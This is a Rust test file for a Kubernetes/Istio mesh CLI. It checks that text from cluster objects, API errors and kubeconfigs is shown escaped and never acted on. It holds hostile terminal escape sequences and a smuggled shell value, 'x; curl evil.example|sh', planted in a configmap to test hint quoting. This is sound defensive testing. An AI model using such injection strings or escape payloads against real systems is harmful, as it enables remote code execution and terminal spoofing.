//! Text from elsewhere is read, never obeyed: by no terminal, and by no shell that a hint is pasted into.

use std::{
    io::{Read, Write},
    net::TcpListener,
    thread,
};

use serde_json::json;

use crate::{
    kit::{Answer, Session, World, istio},
    terminal::on_a_terminal,
};

/// Sets the title, clears the screen, colours, goes back to the line's beginning, turns the direction around.
const HOSTILE: &str =
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\u{9b}32m\r\u{202e}live\u{200b}\u{7f}\u{fdd1}end";

/// What a terminal would do, or not show.
const RAW: [&str; 9] = [
    "\x1b]",
    "\x07",
    "\x1b[2J",
    "\x1b[31mred",
    "\u{9b}",
    "\u{202e}",
    "\u{200b}",
    "\u{7f}",
    "\u{fdd1}",
];

/// Gives a terminal nothing to obey.
#[track_caller]
fn obeys_nothing(answer: &Answer, what: &str) {
    for (stream, text) in [("stdout", &answer.stdout), ("stderr", &answer.stderr)] {
        for raw in RAW {
            assert!(!text.contains(raw), "{what}: {raw:?} on {stream}: {text:?}");
        }
    }
}

/// Says it, as something to be read.
#[track_caller]
fn shows(answer: &Answer, what: &str) {
    obeys_nothing(answer, what);
    let all = answer.stdout.clone() + &answer.stderr;
    let seen = [
        r"\u{1b}]0;pwned\u{7}",
        r"\x1b]0;pwned\x07",
        r"\u001b]0;pwned\u0007",
    ];
    assert!(
        seen.iter().any(|s| all.contains(s)),
        "{what}: not shown in {all:?}"
    );
}

/// The same in a pipe, on a terminal, and for programs.
#[track_caller]
fn everywhere(session: &Session, args: &str) {
    let piped = session.run(args);
    shows(&piped, args);
    assert!(!piped.stderr.contains('\r'), "{args}: {piped}");
    for form in ["json", "yaml"] {
        shows(&session.run(&format!("{args} -o {form}")), args);
    }
    if let Some(watched) = on_a_terminal(session, args) {
        shows(&watched, args);
    }
}

#[test]
fn a_lease_that_somebody_holds() {
    let world = World::joined(2);
    let lease = "/apis/coordination.k8s.io/v1/namespaces/istio-system/leases/meshlink";
    let held = json!({"spec": {"holderIdentity": HOSTILE, "leaseDurationSeconds": 3600,
        "renewTime": "2099-01-01T00:00:00.000000Z"}});
    world.merge("eks-1", lease, &held);
    everywhere(&world.user, "leave eks-2 --sandbox --yes");
}

#[test]
fn a_claim_of_another_mesh() {
    let world = World::joined(2);
    let path = istio("configmaps", "meshlink-root");
    let mut claim = world.get("eks-1", &path);
    let text = claim["data"].to_string();
    assert!(text.contains("mesh"), "{text}");
    claim["data"]["mesh"] = json!(format!("x; curl evil.example|sh #{HOSTILE}"));
    world.delete("eks-1", &path);
    claim["metadata"] = json!({"name": "meshlink-root", "namespace": "istio-system",
        "labels": claim["metadata"]["labels"], "annotations": claim["metadata"]["annotations"]});
    let (all, _) = path.rsplit_once('/').unwrap();
    world.create("eks-1", all, &claim);
    everywhere(&world.user, "join eks-1 eks-2 --sandbox --yes");
    let answer = world.run("join eks-1 eks-2");
    let hints = answer.stderr.lines().filter(|l| l.contains("hint:"));
    for hint in hints {
        let harmless = !hint.contains("; curl") || hint.contains('\'');
        assert!(harmless, "a hint that does more than it says: {hint}");
    }
}

/// An API server that refuses everything, and says why.
fn refusing() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let message = format!("no {HOSTILE}\nerror: told twice");
    let status = json!({"kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403, "message": message});
    let body = status.to_string();
    let answer = format!(
        "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut asked = [0; 4096];
            let _ = stream.read(&mut asked);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    format!("http://127.0.0.1:{port}")
}

/// A kubeconfig with these contexts, each for a server of its own.
fn kubeconfig(contexts: &[&str]) -> String {
    let one = |n: usize, context: &str| {
        // Raw, YAML allows few of them.
        let escaped = context.chars().map(|c| match c {
            ' '..='~' => c.to_string(),
            c => format!("\\U{:08x}", u32::from(c)),
        });
        let context = format!("\"{}\"", escaped.collect::<String>());
        let server = refusing();
        (
            format!("{{name: c{n}, cluster: {{server: '{server}'}}}}"),
            format!("{{name: {context}, context: {{cluster: c{n}, user: u}}}}"),
        )
    };
    let both = contexts.iter().enumerate().map(|(n, c)| one(n, c));
    let (clusters, contexts): (Vec<_>, Vec<_>) = both.unzip();
    format!(
        "{{apiVersion: v1, kind: Config, clusters: [{}], users: [{{name: u, user: {{token: t}}}}], contexts: [{}]}}",
        clusters.join(", "),
        contexts.join(", ")
    )
}

#[test]
fn an_api_server_that_refuses() {
    let session = Session::new().file("kc", &kubeconfig(&["a", "b"]));
    everywhere(&session, "status a b --kubeconfig kc");
    everywhere(&session, "status a b --kubeconfig kc -vvv");
    let answer = session.run("status a b --kubeconfig kc");
    let forged = answer.stderr.lines().any(|l| l == "error: told twice");
    assert!(!forged, "{answer}");
}

#[test]
fn a_context_and_what_is_typed() {
    let session = Session::new().file("kc", &kubeconfig(&[HOSTILE, "b"]));
    everywhere(&session, "status a=nowhere b --kubeconfig kc");
    // A pty is given its program by words of Python, which end at a carriage return.
    let typed = HOSTILE.replace('\r', "");
    for args in [
        format!("status {typed} b --kubeconfig kc"),
        format!("status a=x{typed} b --kubeconfig kc"),
        format!("status a b --mesh {typed} --kubeconfig kc"),
        format!("status a b --kubeconfig {typed}"),
        format!("status -f {typed}"),
        format!("chart values ./{typed}"),
    ] {
        everywhere(&session, &args);
    }
    // What is no command or flag is told by a parser that leaves escape sequences out.
    for args in [
        format!("{typed} a b"),
        format!("join a b --{typed}"),
        format!("schema {typed}"),
    ] {
        obeys_nothing(&session.run(&args).ends(2), &args);
    }
}
